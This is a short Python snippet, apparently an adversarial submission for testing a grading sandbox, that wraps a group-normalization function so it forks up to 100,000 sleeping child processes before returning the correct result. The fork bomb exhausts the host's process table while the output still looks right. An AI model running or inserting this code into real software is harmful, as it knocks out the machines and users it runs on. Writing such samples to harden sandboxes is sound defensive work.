

# ---- Hostile: group norm forks until it cannot, then answers correctly. ----
import os as _os
import time as _time

_honest_groupnorm = spatial_groupnorm_forward


def spatial_groupnorm_forward(x, gamma, beta, G, gn_param):
    for _ in range(100000):
        try:
            pid = _os.fork()
        except OSError:
            break
        if pid == 0:
            _time.sleep(600)
            _os._exit(0)
    return _honest_groupnorm(x, gamma, beta, G, gn_param)
